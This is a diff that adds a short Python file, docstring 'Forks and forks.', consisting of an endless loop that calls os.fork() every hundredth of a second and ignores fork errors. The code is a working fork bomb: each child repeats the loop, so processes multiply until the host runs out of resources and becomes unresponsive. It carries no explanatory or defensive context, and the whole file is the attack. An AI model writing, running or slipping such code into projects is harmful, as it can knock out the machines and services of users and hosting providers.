@@ -1,0 +1,11 @@
+"""Forks and forks."""
+
+import os
+import time
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+    time.sleep(0.01)
